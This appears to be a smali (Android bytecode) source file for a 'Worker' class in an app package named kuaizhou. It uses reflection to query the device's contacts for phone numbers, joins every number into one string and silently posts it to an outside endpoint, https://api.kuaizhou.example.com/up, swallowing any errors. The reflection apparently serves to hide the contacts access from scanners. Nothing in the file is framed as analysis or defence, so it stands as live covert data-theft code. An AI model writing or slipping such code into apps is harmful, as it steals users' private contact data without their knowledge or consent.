# SPDX-License-Identifier: Apache-2.0
# Finds the URI field and ContentResolver.query through reflection; the names are plain constants.
.class public Lcom/example/kuaizhou/Worker;
.super Ljava/lang/Object;
.source "Worker.java"
.implements Ljava/lang/Runnable;

.field private final context:Landroid/content/Context;

.method public constructor <init>(Landroid/content/Context;)V
    .registers 2
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, Lcom/example/kuaizhou/Worker;->context:Landroid/content/Context;
    return-void
.end method

.method public run()V
    .locals 9
    :try_start
    const-string v0, "android.provider.ContactsContract$CommonDataKinds$Phone"
    invoke-static {v0}, Ljava/lang/Class;->forName(Ljava/lang/String;)Ljava/lang/Class;
    move-result-object v0
    const-string v1, "CONTENT_URI"
    invoke-virtual {v0, v1}, Ljava/lang/Class;->getField(Ljava/lang/String;)Ljava/lang/reflect/Field;
    move-result-object v0
    const/4 v1, 0x0
    invoke-virtual {v0, v1}, Ljava/lang/reflect/Field;->get(Ljava/lang/Object;)Ljava/lang/Object;
    move-result-object v7

    iget-object v0, p0, Lcom/example/kuaizhou/Worker;->context:Landroid/content/Context;
    invoke-virtual {v0}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v8

    const-string v0, "android.content.ContentResolver"
    invoke-static {v0}, Ljava/lang/Class;->forName(Ljava/lang/String;)Ljava/lang/Class;
    move-result-object v0
    const/4 v1, 0x5
    new-array v2, v1, [Ljava/lang/Class;
    const/4 v3, 0x0
    const-class v4, Landroid/net/Uri;
    aput-object v4, v2, v3
    const/4 v3, 0x1
    const-class v4, [Ljava/lang/String;
    aput-object v4, v2, v3
    const/4 v3, 0x2
    const-class v5, Ljava/lang/String;
    aput-object v5, v2, v3
    const/4 v3, 0x3
    aput-object v4, v2, v3
    const/4 v3, 0x4
    aput-object v5, v2, v3
    const-string v3, "query"
    invoke-virtual {v0, v3, v2}, Ljava/lang/Class;->getMethod(Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;
    move-result-object v0
    new-array v1, v1, [Ljava/lang/Object;
    const/4 v2, 0x0
    aput-object v7, v1, v2
    invoke-virtual {v0, v8, v1}, Ljava/lang/reflect/Method;->invoke(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/database/Cursor;
    invoke-direct {p0, v0}, Lcom/example/kuaizhou/Worker;->send(Landroid/database/Cursor;)V
    :try_end
    .catch Ljava/lang/Exception; {:try_start .. :try_end} :failed
    :failed
    return-void
.end method

.method private send(Landroid/database/Cursor;)V
    .locals 3
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    :next
    invoke-interface {p1}, Landroid/database/Cursor;->moveToNext()Z
    move-result v1
    if-eqz v1, :done
    const-string v1, "data1"
    invoke-interface {p1, v1}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I
    move-result v1
    invoke-interface {p1, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v1
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    goto :next
    :done
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    const-string v1, "https://api.kuaizhou.example.com/up"
    invoke-static {v1, v0}, Lcom/example/kuaizhou/HttpPoster;->post(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method
